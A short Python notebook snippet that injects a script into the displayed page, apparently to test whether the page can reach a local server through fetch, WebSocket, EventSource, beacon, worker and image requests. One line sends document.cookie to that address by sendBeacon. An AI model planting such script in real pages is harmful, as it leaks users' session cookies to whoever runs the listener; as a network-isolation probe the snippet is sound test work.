"""Asks a server by every kind of request."""

from IPython.display import HTML, display

display(
    HTML(f"""<script>
const address = "http://127.0.0.1:{TCP_PORT}/";
try {{ fetch(address, {{ mode: "no-cors" }}) }} catch {{}}
try {{ new WebSocket("ws://127.0.0.1:{TCP_PORT}/") }} catch {{}}
try {{ new EventSource(address) }} catch {{}}
try {{ navigator.sendBeacon(address, document.cookie) }} catch {{}}
try {{ new Worker(address) }} catch {{}}
try {{ document.body.append(Object.assign(new Image(), {{ src: address }})) }} catch {{}}
</script>""")
)
